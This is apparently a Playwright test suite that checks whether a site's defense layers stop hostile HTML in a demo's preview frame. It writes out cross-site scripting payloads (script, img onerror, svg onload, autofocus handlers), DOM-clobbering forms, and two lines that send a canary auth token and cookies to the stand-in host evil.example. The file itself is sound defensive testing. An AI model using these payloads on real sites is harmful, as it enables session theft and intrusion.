// Uses remote-demo, supabase/functions/transform-website
import { expect, test } from '@playwright/test';
import { SITE_URL } from '../stack.ts';
import { openAttackPage } from './attack-page.ts';
import { interactWithPreview } from './interact-with-documents.ts';
import { allLayers, layers, noLayer, sitePolicyOnly } from './layers.ts';
import { createHostilePages, readPayloads } from './payloads.ts';

/** `npm run test:all attacks` runs every payload; `npm test` runs a sample in seconds. */
const runAllPayloads = process.env.ATTACKS === 'all';
const SAMPLE_SIZE = 4;
const BATCH_SIZE = 24;

const hostile = runAllPayloads
  ? readPayloads().flatMap(createHostilePages)
  : readPayloads(SAMPLE_SIZE).flatMap((payload, i) => createHostilePages(payload)[i % 2] ?? []);

test.describe.configure({ timeout: runAllPayloads ? 1_800_000 : 120_000 });

test('hostile pages run their attacks when no defense layer is active, and the test detects them', {
  tag: ['@complete-browser', '@attacks'],
}, async ({ browser }) => {
  const attackPage = await openAttackPage(browser, noLayer);
  const simplePayloads = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<input autofocus onfocus=alert(1)>',
  ];
  await attackPage.show(simplePayloads);
  await attackPage.show([`<script>new Image().src = 'https://evil.example/?' + localStorage.getItem('sb-canary-auth-token')</script>`]);
  await attackPage.show(['<script>fetch("https://evil.example/", { method: "POST", body: parent.document.cookie })</script>']);
  expect(attackPage.damage.executions.filter((entry) => entry.startsWith('alert')).length).toBeGreaterThanOrEqual(4);
  expect(attackPage.damage.executions.filter((entry) => entry.startsWith('script')).length).toBeGreaterThanOrEqual(6);
  expect(attackPage.damage.stolen.filter((entry) => entry.startsWith('token sent')).length).toBeGreaterThanOrEqual(2);
  await attackPage.close();
});

for (const layer of layers) {
  test(`${layer.name} stops every attack of the hostile pages`, { tag: ['@complete-browser', '@attacks'] }, async ({ browser }) => {
    const attackPage = await openAttackPage(browser, layer);
    let shownCount = 0;
    for (let at = 0; at < hostile.length; at += BATCH_SIZE) {
      const documents = hostile.slice(at, at + BATCH_SIZE).map((page) => layer.document(page));
      const delivered = documents.filter((html) => html !== null);
      await attackPage.show(delivered);
      shownCount += delivered.length;
      expect(attackPage.damage, `pages ${at} to ${at + BATCH_SIZE}`).toEqual({
        executions: [],
        stolen: [],
        escapes: [],
        residue: [],
      });
    }
    console.log(`${layer.name}: ${shownCount} pages shown, ${hostile.length - shownCount} refused, 0 executions, 0 tokens read`);
    expect(shownCount).toBeGreaterThan(hostile.length * 0.95);
    await attackPage.close();
  });
}

test('a hostile page can load the site’s scripts only by their hash and without the other layers', {
  tag: '@complete-browser',
}, async ({ browser }) => {
  const scriptOf = (attributes: string) => `<!doctype html><p>x</p><script type="module" crossorigin ${attributes}></script>`;
  for (const layer of layers) {
    const attackPage = await openAttackPage(browser, layer);
    const [path, hash] = await attackPage.page.evaluate(() => {
      const { integrity } = JSON.parse(document.querySelector('script[type=importmap]')?.textContent ?? '{}');
      return Object.entries<string>(integrity).find(([url]) => url.startsWith('/shell/')) ?? ['', ''];
    });
    const src = `src="${new URL(path, SITE_URL)}"`;
    // Integrity-Policy, which a blob document inherits, blocks scripts without a hash.
    await attackPage.show([layer.document(scriptOf(src)) ?? '']);
    expect(attackPage.damage.executions, layer.name).toEqual([]);
    await attackPage.show([layer.document(scriptOf(`${src} integrity="${hash}"`)) ?? '']);
    expect(attackPage.damage.executions.length > 0, layer.name).toBe(layer === sitePolicyOnly);
    expect(attackPage.damage.stolen).toEqual([]);
    await attackPage.close();
  }
});

test('the attack test can operate pages that shadow DOM methods and properties', { tag: ['@complete-browser', '@attacks'] }, async ({
  browser,
}) => {
  const attackPage = await openAttackPage(browser, noLayer);
  const names = ['querySelectorAll', 'shadowRoot', 'nodeType', 'setAttribute', 'dispatchEvent', 'localName', 'getAttributeNames', 'focus'];
  const documents = names.flatMap((name) => [
    `<img name=${name}><form name=${name} id=${name}></form><button onclick="alert('${name}')">x</button>`,
    `<form onclick="alert('${name}')"><input name=${name}><details><summary>x</summary></details></form>`,
  ]);
  await attackPage.show(documents);
  const reported = attackPage.damage.executions.filter((entry) => entry.startsWith('alert'));
  expect(reported.length).toBeGreaterThanOrEqual(documents.length);
  await attackPage.close();
});

test('hostile pages that the demo loads run no code in its preview frame', { tag: '@complete-browser' }, async ({ browser }) => {
  const attackPage = await openAttackPage(browser, allLayers);
  const sample = hostile.filter((_, i) => i % (runAllPayloads ? 10 : 8) === 0);
  let requests = 0;
  await attackPage.page.route('**/functions/v1/transform-website', (route) => {
    const html = allLayers.document(sample[requests % sample.length] ?? '') ?? '<!doctype html><title>refused</title>';
    requests += 1;
    const headers = { 'access-control-allow-origin': '*', 'content-type': 'text/html; charset=utf-8' };
    return route.fulfill({ body: html, headers });
  });
  // The content editor's dialog would cover the page.
  const switches = await attackPage.page.locator('label:not(:has-text("Content Editor")) [role=switch]').all();
  for (let round = 1; round <= sample.length; round++) {
    // In Gray code order every toggle yields a new set of features.
    const before = requests;
    await switches[Math.log2(round & -round) % switches.length]?.press('Space');
    // Once, on a busy machine, one press caused two requests; the cause is unknown. The page that is shown is checked.
    await expect.poll(() => requests).toBeGreaterThan(before);
    await expect(attackPage.page.locator('iframe')).toHaveAttribute('src', /^blob:/);
    await expect(attackPage.page.getByText('Applying transformations...')).toHaveCount(0);
    await attackPage.page.evaluate(interactWithPreview);
    expect(attackPage.damage, sample[(requests - 1) % sample.length]).toEqual({ executions: [], stolen: [], escapes: [], residue: [] });
  }
  await attackPage.close();
});
